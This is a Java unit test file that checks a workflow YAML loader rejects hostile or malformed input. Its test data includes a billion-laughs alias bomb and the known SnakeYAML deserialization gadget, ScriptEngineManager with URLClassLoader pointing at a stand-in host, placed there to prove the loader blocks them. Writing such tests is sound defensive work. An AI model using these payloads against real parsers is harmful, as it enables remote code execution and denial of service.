package io.phaseflow.workflow;

import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;

import org.junit.jupiter.api.Test;

import static io.phaseflow.workflow.WorkflowYaml.lines;
import static io.phaseflow.workflow.WorkflowYaml.phase;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * Hostile or broken YAML: syntax errors, duplicate keys, alias bombs, tags, oversized and
 * overly deep documents are all rejected with a problem, never with a crash or an object
 * built from the file.
 */
class WorkflowYamlSafetyTest {

	/** Counts instances, to prove that no tag in a document builds an object. */
	public static final class Probe {

		static final AtomicInteger created = new AtomicInteger();

		public Probe() {
			created.incrementAndGet();
		}

	}

	private static String message(String yaml) {
		WorkflowConfigInvalid invalid = catchThrowableOfType(WorkflowConfigInvalid.class,
				() -> WorkflowYaml.load(yaml));
		assertThat(invalid).as("expected the document to be rejected").isNotNull();
		return invalid.getMessage();
	}

	@Test
	void syntaxErrorsNameTheLine() {
		assertThat(message(lines("phases:", "  intake:", "    order: 1", "    goal: [unclosed", "    next_step: N")))
			.startsWith("test/workflow.yaml:5: invalid YAML: ");
		assertThat(message(lines("phases:", "  intake:", "\torder: 1")))
			.startsWith("test/workflow.yaml:3: invalid YAML: ");
		assertThat(message(lines("phases:", "  intake:", "    goal: a: b")))
			.startsWith("test/workflow.yaml:3: invalid YAML: ")
			.contains("mapping values are not allowed here");
	}

	@Test
	void duplicateKeysAreRejectedWithTheirLine() {
		assertThat(message(phase("    goal: Again")))
			.isEqualTo("test/workflow.yaml:6: phases.intake.goal: duplicate key 'goal' (first defined at line 4)");
		assertThat(message(lines("phases:", "  intake:", "    order: 1", "    goal: G", "    next_step: N", "  intake:",
				"    order: 2", "    goal: G", "    next_step: N")))
			.isEqualTo("test/workflow.yaml:6: phases.intake: duplicate key 'intake' (first defined at line 2)");
		assertThat(message(lines("settings: {}", "settings: {}", "phases: {}")))
			.startsWith("test/workflow.yaml:2: settings: duplicate key 'settings' (first defined at line 1)");
	}

	@Test
	void aliasBombIsRejected() {
		String bomb = lines("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]",
				"b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]", "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]",
				"d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]", "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]",
				"f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]", "g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]",
				"h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]", "i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]",
				"phases: *i");
		String message = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> message(bomb));
		assertThat(message).startsWith("test/workflow.yaml").contains("aliases");
	}

	@Test
	void aFewAliasesAreFine() {
		WorkflowDefinition workflow = WorkflowYaml.load(lines("phases:", "  intake:", "    order: 1",
				"    goal: &goal Clarify", "    next_step: N", "    override: &policy { approval: none }",
				"  research:", "    order: 2", "    goal: *goal", "    next_step: N", "    override: *policy"));
		assertThat(workflow.phase("research").orElseThrow().goal()).isEqualTo("Clarify");
	}

	@Test
	void javaTagsAreRejectedAndNothingIsBuilt() {
		Probe.created.set(0);
		assertThat(message(lines("phases: !!io.phaseflow.workflow.WorkflowYamlSafetyTest$Probe {}")))
			.startsWith("test/workflow.yaml:1: invalid YAML: ")
			.contains("Global tag is not allowed");
		assertThat(message(lines("phases:", "  intake:", "    order: 1",
				"    goal: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
				"    next_step: N")))
			.startsWith("test/workflow.yaml:4: invalid YAML: ")
			.contains("Global tag is not allowed");
		assertThat(message(lines("settings: !!java.lang.Runtime {}", "phases: {}")))
			.contains("Global tag is not allowed");
		assertThat(Probe.created).hasValue(0);
	}

	@Test
	void otherTagsAreRejected() {
		assertThat(message(phase("    description: !custom text")))
			.isEqualTo("test/workflow.yaml:6: phases.intake.description: tag !custom is not allowed");
		assertThat(message(phase("    description: !!binary aGVsbG8=")))
			.isEqualTo("test/workflow.yaml:6: phases.intake.description: tag tag:yaml.org,2002:binary is not allowed");
		assertThat(message(phase("    events: !!set { intake.start }")))
			.isEqualTo("test/workflow.yaml:6: phases.intake.events: tag tag:yaml.org,2002:set is not allowed");
	}

	@Test
	void mergeKeysAreRejected() {
		assertThat(message(lines("base: &base { order: 1 }", "phases:", "  intake:", "    <<: *base", "    goal: G",
				"    next_step: N")))
			.contains("test/workflow.yaml:4: phases.intake: merge keys (<<) are not supported");
	}

	@Test
	void plainTaggedScalarsAreFine() {
		assertThat(WorkflowYaml.load(phase("    description: !!str 42")).firstPhase().description()).isEqualTo("42");
	}

	@Test
	void complexKeysAreRejected() {
		assertThat(message(phase("    ? [a, b]", "    : c")))
			.isEqualTo("test/workflow.yaml:6: phases.intake: keys must be plain names");
	}

	@Test
	void emptyDocumentIsRejected() {
		assertThat(message("")).isEqualTo("test/workflow.yaml: is empty; it must define settings and phases");
		assertThat(message("# only a comment\n"))
			.isEqualTo("test/workflow.yaml: is empty; it must define settings and phases");
	}

	@Test
	void severalDocumentsAreRejected() {
		assertThat(message(WorkflowYaml.phase() + "---\n" + WorkflowYaml.phase()))
			.startsWith("test/workflow.yaml:6: invalid YAML: ")
			.contains("expected a single document");
	}

	@Test
	void deepNestingIsRejected() {
		String deep = "phases: " + "[".repeat(100) + "]".repeat(100) + "\n";
		assertThat(message(deep)).startsWith("test/workflow.yaml").contains("Nesting Depth exceeded");
	}

	@Test
	void oversizedDocumentIsRejected() {
		String huge = ("# " + "x".repeat(1000) + "\n").repeat(1100) + WorkflowYaml.phase();
		assertThatExceptionOfType(WorkflowConfigInvalid.class).isThrownBy(() -> WorkflowYaml.load(huge))
			.withMessageStartingWith("test/workflow.yaml")
			.withMessageContaining("exceeds the limit");
	}

}
